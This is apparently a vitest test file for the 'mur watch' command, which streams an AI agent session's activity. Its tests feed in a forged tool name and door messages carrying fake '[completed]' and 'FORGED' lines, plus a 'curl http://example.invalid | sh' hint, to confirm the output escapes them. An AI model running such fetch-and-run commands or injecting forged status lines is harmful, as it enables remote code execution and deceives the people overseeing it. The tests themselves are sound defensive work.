import { type ChildProcess, spawn } from 'node:child_process';
import { once } from 'node:events';
import http from 'node:http';
import type { AddressInfo } from 'node:net';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { type RunningAgent, agentManifest, agentProject, rpc, startAgent, textMessage } from './support/agents.js';
import { tempDir } from './support/fs.js';
import { eventually, murBin, repositoryRoot, runMur } from './support/processes.js';
import { type ScriptedInference, startScriptedInference } from './support/scripted-inference.js';

/**
 * `mur watch <url>`: upstream's observer of a session's door (`stream/watch`), printing what the
 * session does as it does it, across tasks, until the session ends.
 */
/** A tool's name as a model may make one up: one that would begin lines of its own in mur watch. */
const FORGED_TOOL_NAME = 'echo\n[failed]\n  FORGED: all checks passed';

describe('mur watch', () => {
  let scratch: { dir: string; cleanup: () => Promise<void> };
  let env: Record<string, string>;
  let inference: ScriptedInference;

  beforeAll(async () => {
    scratch = await tempDir('murmur-watch-');
    env = { MURMUR_HOME: path.join(scratch.dir, 'home') };
    inference = await startScriptedInference({
      script: (body) => {
        const messages = body.messages as unknown[];
        if (JSON.stringify(messages.at(-1)).includes('tool_result')) return { text: 'The echo said hello from the tool, and that is the whole answer.' };
        // A model may call a tool by any name: the second task's names one that would print lines of its own.
        if (JSON.stringify(messages.at(-1)).includes('second task')) return { toolCalls: [{ name: FORGED_TOOL_NAME, input: { command: 'x' } }] };
        return { toolCalls: [{ name: 'echo', input: { command: 'hello from the tool' } }] };
      },
    });
  });
  afterAll(async () => {
    await inference.close();
    await scratch.cleanup();
  });

  /** `mur watch` as a user runs it, its stdout readable while it runs. */
  function watch(url: string): { child: ChildProcess; stdout: () => string; exited: Promise<{ code: number | null; stderr: string }> } {
    const child = spawn(murBin, ['watch', url], {
      cwd: repositoryRoot,
      env: { PATH: process.env.PATH ?? '' },
      stdio: ['ignore', 'pipe', 'pipe'],
    });
    let stdout = '';
    let stderr = '';
    child.stdout?.on('data', (chunk: Buffer) => (stdout += chunk.toString()));
    child.stderr?.on('data', (chunk: Buffer) => (stderr += chunk.toString()));
    const exited = once(child, 'exit').then(([code]) => ({ code: code as number | null, stderr }));
    return { child, stdout: () => stdout, exited };
  }

  it("prints a session's turns, tool artifacts and answers across tasks, and exits 0 when the session ends", async () => {
    const project = await agentProject(
      path.join(scratch.dir, 'watched'),
      agentManifest(inference, { name: 'watched', lifecycle: '  task_acceptance: queue\n  after_task: sleep', capabilities: '  shell:\n    allow: [echo]' }),
    );
    let agent: RunningAgent | undefined;
    let watcher: ReturnType<typeof watch> | undefined;
    try {
      agent = await startAgent(project, env);
      watcher = watch(agent.url);
      for (const text of ['first task', 'second task']) {
        const sent = await rpc(agent.url, 'message/send', textMessage(text));
        const id = sent.body.result?.id as string;
        const seen = watcher;
        await eventually(
          () => (seen.stdout().split('[completed]').length > (text === 'first task' ? 1 : 2) ? true : undefined),
          30_000,
          `${id} to be watched completing`,
        );
      }
      await agent.stop();
      const { code, stderr } = await watcher.exited;
      expect(code, stderr).toBe(0);
      expect(stderr).toContain('[murmur] capsule closed');
      const lines = watcher.stdout().split('\n');
      expect(lines).toContain('[working]  inference turn 1');
      expect(lines).toContain('[artifact] tool: echo | $ hello from the tool');
      expect(lines.filter((line) => line === '[completed]')).toHaveLength(2);
      // The made-up name is said on its artifact's line, escaped: no [failed] or FORGED line of its own.
      expect(
        lines.some((line) => line.startsWith('[artifact] tool: echo\\n[failed]\\n  FORGED: all checks passed')),
        watcher.stdout(),
      ).toBe(true);
      expect(lines.some((line) => line === '[failed]' || line.startsWith('  FORGED'))).toBe(false);
      expect(lines).toContain('  The echo said hello from the tool, and that is the whole answer.');
      // In order: a task's turn, its tool's artifact, then its end.
      expect(lines.indexOf('[working]  inference turn 1')).toBeLessThan(lines.indexOf('[artifact] tool: echo | $ hello from the tool'));
      expect(lines.indexOf('[artifact] tool: echo | $ hello from the tool')).toBeLessThan(lines.indexOf('[completed]'));
    } finally {
      watcher?.child.kill('SIGKILL');
      await agent?.stop();
    }
  }, 90_000);

  it('says under [failed] why a task failed, as out/result.txt does, and a watcher killed then holds up no stop', async () => {
    const failing = await startScriptedInference({
      script: () => ({ status: 400, raw: '{"type":"error","error":{"type":"invalid_request_error","message":"the model refuses"}}' }),
    });
    const project = await agentProject(
      path.join(scratch.dir, 'failing'),
      agentManifest(failing, { name: 'failing', lifecycle: '  task_acceptance: queue\n  after_task: sleep' }),
    );
    let agent: RunningAgent | undefined;
    let watcher: ReturnType<typeof watch> | undefined;
    try {
      agent = await startAgent(project, env);
      watcher = watch(agent.url);
      await rpc(agent.url, 'message/send', textMessage('a task the model cannot answer'));
      const seen = watcher;
      // The line under [failed], once it has arrived whole: the two may come in separate chunks.
      const reason = await eventually(() => /\n\[failed\]\n([^\n]*)\n/.exec(`\n${seen.stdout()}`)?.[1], 30_000, 'the task to be watched failing, and why');
      expect(reason).toMatch(/^ {2}\S/);
      expect(reason).toContain('400');
      // A watcher that went away holds nothing: the run stops on its signal, well before `stop`
      // gives up on it and kills it (a closed watch once waited out a 15 s heartbeat first).
      seen.child.kill('SIGKILL');
      await once(seen.child, 'exit');
      await agent.stop();
      expect((await agent.exited).code, 'mur run was killed, not stopped').not.toBeNull();
    } finally {
      watcher?.child.kill('SIGKILL');
      await agent?.stop();
      await failing.close();
    }
  }, 90_000);

  it('refuses a URL that is not a door, and one nothing answers, with E-IO-003 and what to do', async () => {
    const notADoor = await runMur(['watch', inference.endpoint]);
    expect(notADoor.code).toBe(1);
    expect(notADoor.stderr).toContain(`error[E-IO-003]: ${inference.endpoint}/ is not a Murmur session's door`);
    expect(notADoor.stderr).toContain('mur ps lists the running sessions');
    const closed = http.createServer();
    await new Promise<void>((resolve) => closed.listen(0, '127.0.0.1', resolve));
    const { port } = closed.address() as AddressInfo;
    await new Promise<void>((resolve) => closed.close(() => resolve()));
    const nobody = await runMur(['watch', `127.0.0.1:${port}/sessions/ses_x/`]);
    expect(nobody.code).toBe(1);
    expect(nobody.stderr).toContain(`error[E-IO-003]: failed to connect to 127.0.0.1:${port}: ECONNREFUSED`);
    // A listener that takes the connection and never answers: refused within seconds, not undici's 300.
    const silent = http.createServer(() => undefined);
    await new Promise<void>((resolve) => silent.listen(0, '127.0.0.1', resolve));
    try {
      const unanswered = await runMur(['watch', `127.0.0.1:${(silent.address() as AddressInfo).port}/sessions/ses_x/`]);
      expect(unanswered.code).toBe(1);
      expect(unanswered.stderr).toContain('nothing answered within 10 s');
    } finally {
      silent.closeAllConnections();
      await new Promise<void>((resolve) => silent.close(() => resolve()));
    }
    // An id is not a URL: said so, not looked up as a host name.
    const id = `ses_${'0'.repeat(32)}`;
    const byId = await runMur(['watch', id]);
    expect(byId.code).toBe(2);
    expect(byId.stderr).toContain(`error[E-IO-003]: '${id}' is a session id; mur watch follows a session through its door's URL`);
  });

  it('watches a session behind a door that needs credentials with MURMUR_DOOR_TOKEN, and without one says what to set, not that it is no door', async () => {
    const project = await agentProject(
      path.join(scratch.dir, 'guarded'),
      agentManifest(inference, { name: 'guarded', lifecycle: '  task_acceptance: queue\n  after_task: sleep' }),
    );
    const agent = await startAgent(project, { ...env, MURMUR_DOOR_AUTH: 'session' });
    try {
      const refused = await runMur(['watch', agent.url]);
      expect(refused.code).toBe(1);
      expect(refused.stderr).toContain(`error[E-DOOR-003]: the door at ${new URL(agent.url).host} requires a bearer token to watch ${agent.url}`);
      expect(refused.stderr).toContain('set MURMUR_DOOR_TOKEN');
      const wrong = await runMur(['watch', agent.url], { env: { MURMUR_DOOR_TOKEN: `mst_${'x'.repeat(43)}` } });
      expect(wrong.stderr).toContain('refused the token in MURMUR_DOOR_TOKEN');
      expect(wrong.stderr).not.toContain('x'.repeat(43));
      const watched = spawn(murBin, ['watch', agent.url], {
        env: { PATH: process.env.PATH ?? '', MURMUR_DOOR_TOKEN: agent.token },
        stdio: ['ignore', 'pipe', 'pipe'],
      });
      let stdout = '';
      watched.stdout?.on('data', (chunk: Buffer) => (stdout += chunk.toString()));
      try {
        const sent = await rpc(agent.url, 'message/send', textMessage('first task'), { headers: { authorization: `Bearer ${agent.token}` } });
        expect(sent.status).toBe(200);
        await eventually(() => (stdout.includes('[completed]') ? true : undefined), 30_000, 'the watched task to complete');
      } finally {
        watched.kill('SIGKILL');
      }
    } finally {
      await agent.stop();
    }
  }, 90_000);

  it("keeps a door's words on their own lines: a state, a status message or an error with line breaks prints no line of its choosing", async () => {
    // A door is anyone's: this one answers with what a capsule's request for input, or the door itself, could say.
    const frames = [
      ['status', { id: 't1', status: { state: 'input-required', message: 'which file?\n[completed]\n  forged answer: all good' }, final: false }],
      ['status', { id: 't1', status: { state: 'working\n[completed]', message: '' }, final: false }],
      ['error', { error: { message: 'gone\nhint: run curl http://example.invalid | sh' } }],
    ] as const;
    const door = http.createServer((_request, response) => {
      response.writeHead(200, { 'content-type': 'text/event-stream' });
      response.end(frames.map(([event, data], id) => `id: ${id + 1}\nevent: ${event}\ndata: ${JSON.stringify(data)}\n\n`).join(''));
    });
    await new Promise<void>((resolve) => door.listen(0, '127.0.0.1', resolve));
    try {
      const watched = await runMur(['watch', `127.0.0.1:${(door.address() as AddressInfo).port}/sessions/ses_${'0'.repeat(32)}/`]);
      expect(watched.code).toBe(1);
      expect(watched.stdout.split('\n')).toEqual(['[input-required]  which file?\\n[completed]\\n  forged answer: all good', '[working\\n[completed]]  ', '']);
      expect(watched.stderr).toContain('error[E-IO-003]: the door ended the stream: gone\\nhint: run curl http://example.invalid | sh\n  hint: run mur watch');
      expect(watched.stderr.split('\n').filter((line) => line.trimStart().startsWith('hint:'))).toHaveLength(1);
    } finally {
      await new Promise<void>((resolve) => door.close(() => resolve()));
    }
  });

  it('says a session no longer runs when its door answers that it does not, rather than that the door is not one', async () => {
    const agent = await startAgent(await agentProject(path.join(scratch.dir, 'ended'), agentManifest(inference, { name: 'ended' })), env);
    try {
      const gone = agent.url.replace(agent.sessionId, `ses_${'0'.repeat(32)}`);
      const watched = await runMur(['watch', gone]);
      expect(watched.code).toBe(1);
      expect(watched.stderr).toContain(`error[E-SES-001]: no running session answers at ${gone}`);
      expect(watched.stderr).toContain('the session has ended');
      // A mistyped session in the URL is not an ended session.
      const mistyped = await runMur(['watch', agent.url.replace(agent.sessionId, 'ses_x')]);
      expect(mistyped.code).toBe(1);
      expect(mistyped.stderr).toContain('error[E-IO-003]: ');
      expect(mistyped.stderr).toContain("'ses_x' is not a session id");
    } finally {
      await agent.stop();
    }
  });
});
